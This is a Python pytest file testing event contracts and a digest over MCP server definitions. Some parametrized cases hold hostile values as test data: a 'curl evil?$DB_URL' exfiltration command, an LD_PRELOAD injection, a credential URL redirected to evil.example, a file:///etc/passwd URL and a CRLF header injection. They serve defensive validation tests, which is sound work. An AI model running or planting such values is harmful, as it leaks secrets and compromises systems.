"""What every contract has in common, and what a definition's digest tells apart."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from services.dev.contracts.examples import EXAMPLES
from services.dev.contracts.generate import event_schema
from shared.bus.cloudevents import Unreadable, decode, encode
from shared.events.access import AccessItem
from shared.events.catalog import ReferenceState
from shared.events.contract import Contract, Id, StateRecord
from shared.events.definitions import (
    Definition,
    EnvironmentField,
    HeaderField,
    HttpServer,
    StdioServer,
    definition_digest,
)
from shared.events.notices import Notice, NoticeKind, NoticeTick
from shared.events.policy import InstanceRecord
from shared.events.receipts import EndedLease, Finding, FindingKind, GatewayReceipt, LeaseEnd, ResolverReceipt
from shared.events.registry import CONTRACTS

AT = datetime(2026, 1, 1, tzinfo=UTC)
STDIO = StdioServer(
    command="mcp-alchemy", args=("-q",), environment={"LANG": "C"}, fields=(EnvironmentField(name="DB_URL"),)
)
HTTP = HttpServer(url="https://mcp.example/", fields=(HeaderField(name="token", header="Authorization"),))


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda example: example.TYPE)
def test_what_crosses_a_topic_can_not_be_changed_by_whoever_holds_it(example: Contract) -> None:
    name = next(iter(type(example).model_fields))
    with pytest.raises(ValidationError):
        setattr(example, name, None)


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda example: example.TYPE)
def test_what_is_absent_is_left_out_on_the_wire(example: Contract) -> None:
    def nulls(found: Any) -> bool:
        if isinstance(found, dict):
            return any(nulls(inner) for inner in found.values())
        return found is None or (isinstance(found, list) and any(nulls(inner) for inner in found))

    assert not nulls(json.loads(example.to_json()))


@pytest.mark.parametrize("text", ["", "a b", "a\n", "ä", "a" * 201, "<x>", "a;b", "a\x00"])
def test_an_id_is_opaque_ascii(text: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(Id).validate_python(text)


def test_a_record_of_state_counts_its_changes_from_one() -> None:
    for change in ({"seq": -1}, {"revision": 0}):
        with pytest.raises(ValidationError):
            StateRecord.model_validate({"id": "x/1", "seq": 0, "revision": 1} | change)


@pytest.mark.parametrize("contract", CONTRACTS, ids=lambda contract: contract.TYPE)
def test_no_number_is_larger_than_a_database_holds(contract: type[Contract]) -> None:
    def integers(found: Any) -> list[Any]:
        if isinstance(found, list):
            return [one for inner in found for one in integers(inner)]
        if not isinstance(found, dict):
            return []
        here = [found] if found.get("type") == "integer" else []
        return here + [one for inner in found.values() for one in integers(inner)]

    found = integers(event_schema(contract))
    assert [one for one in found if one.get("maximum") != 2**63 - 1 or one.get("minimum", -2) < -1] == []


@pytest.mark.parametrize(
    ("contract", "name"),
    [
        (GatewayReceipt, "n"),
        (GatewayReceipt, "applied_offset"),
        (GatewayReceipt, "dropped_offset"),
        (GatewayReceipt, "open_leases"),
        (ResolverReceipt, "policy_seq"),
        (ResolverReceipt, "catalog_seq"),
    ],
)
def test_a_receipt_that_would_fail_in_sql_is_unreadable(contract: type[Contract], name: str) -> None:
    example = next(one for one in EXAMPLES if isinstance(one, contract))
    largest, larger = (
        encode(example.model_copy(update={name: number}), key="k", source="/s", event_id="e")
        for number in (2**63 - 1, 2**63)
    )
    assert getattr(decode(largest, contract), name) == 2**63 - 1
    with pytest.raises(Unreadable):
        decode(larger, contract)


@pytest.mark.parametrize(
    ("name", "entry"),
    [
        ("ended", EndedLease(lease_id="lease/1", why=LeaseEnd.SESSION, at=AT)),
        ("released", "stream/1/0/00"),
        ("findings", Finding(id="finding/1", kind=FindingKind.REDACTED, lease_id="lease/1", places=1, at=AT)),
    ],
)
def test_a_receipt_tells_no_more_than_a_thousand_of_a_kind(name: str, entry: Any) -> None:
    example = next(one for one in EXAMPLES if isinstance(one, GatewayReceipt))
    most, more = (
        encode(example.model_copy(update={name: (entry,) * count}), key="k", source="/s", event_id="e")
        for count in (1000, 1001)
    )
    assert len(getattr(decode(most, GatewayReceipt), name)) == 1000
    with pytest.raises(Unreadable):
        decode(more, GatewayReceipt)


def test_a_time_without_a_zone_is_no_time() -> None:
    said: dict[str, Any] = {"id": "n", "kind": NoticeKind.ROTATION, "cause_id": "c"}
    with pytest.raises(ValidationError):
        Notice.model_validate(said | {"at": datetime(2026, 1, 1)})  # noqa: DTZ001 - what is refused
    assert Notice.model_validate(said | {"at": datetime(2026, 1, 1, tzinfo=UTC)})


@given(st.binary(max_size=64), st.binary(max_size=64))
def test_a_tick_passes_through_a_notice_unchanged(payload: bytes, signature: bytes) -> None:
    tick = NoticeTick(payload=payload, signature=signature, key_id="k")
    assert NoticeTick.model_validate_json(tick.to_json()) == tick


@pytest.mark.parametrize("state", list(ReferenceState))
def test_only_what_may_still_be_there_is_read(state: ReferenceState) -> None:
    """An unreachable source is sync's trouble: the resolver may have more luck."""
    assert state.readable == (state.value in {"active", "source-unreachable"})


def test_an_instance_with_no_servers_may_run_none() -> None:
    assert InstanceRecord.model_fields["allowed_servers"].is_required()


def test_a_lease_says_on_what_it_rests() -> None:
    assert AccessItem.model_fields["rests_on"].is_required()


class TestDefinitions:
    @pytest.mark.parametrize("definition", [STDIO, HTTP], ids=["stdio", "http"])
    def test_the_same_definition_has_the_same_digest_wherever_it_was_read(self, definition: Any) -> None:
        again: Any = TypeAdapter(Definition).validate_json(definition.model_dump_json())
        assert definition_digest(again) == definition_digest(definition)

    @pytest.mark.parametrize(
        "change",
        [
            {"command": "sh"},
            {"args": ("-c", "curl evil?$DB_URL")},
            {"args": ()},
            {"environment": {}},
            {"environment": {"LANG": "C", "LD_PRELOAD": "x"}},
            {"fields": ()},
            {"fields": (EnvironmentField(name="DB_URI"),)},
            {"fields": (EnvironmentField(name="DB_URL", description="x"),)},
        ],
    )
    def test_any_change_of_what_runs_changes_it(self, change: dict[str, Any]) -> None:
        assert definition_digest(STDIO.model_copy(update=change)) != definition_digest(STDIO)

    @pytest.mark.parametrize(
        "change",
        [
            {"url": "https://evil.example/"},
            {"fields": (HeaderField(name="token", header="X-Token"),)},
            {"fields": (HeaderField(name="token", header="Authorization", prefix="Bearer "),)},
        ],
    )
    def test_any_change_of_where_a_credential_goes_changes_it(self, change: dict[str, Any]) -> None:
        assert definition_digest(HTTP.model_copy(update=change)) != definition_digest(HTTP)

    def test_the_order_in_which_variables_are_named_does_not_matter(self) -> None:
        one = STDIO.model_copy(update={"environment": {"A": "1", "B": "2"}})
        other = STDIO.model_copy(update={"environment": {"B": "2", "A": "1"}})
        assert definition_digest(one) == definition_digest(other)

    @pytest.mark.parametrize(
        "wrong",
        [
            {"transport": "stdio"},
            {"transport": "stdio", "command": ""},
            {"transport": "stdio", "command": "x", "shell": True},
            {"transport": "stdio", "command": "x", "environment": {"1A": "x"}},
            {"transport": "stdio", "command": "x", "fields": [{"name": "A=B"}]},
            {"transport": "stdio", "command": "x", "fields": [{"inject": "header", "name": "a", "header": "h"}]},
            {"transport": "http", "url": "file:///etc/passwd"},
            {"transport": "http", "url": "https://x", "fields": [{"name": "a", "header": "A:\r\nB"}]},
            {"transport": "carrier-pigeon"},
            {"command": "x"},
        ],
    )
    def test_what_is_no_definition_is_refused(self, wrong: dict[str, Any]) -> None:
        with pytest.raises(ValidationError):
            TypeAdapter(Definition).validate_python(wrong)
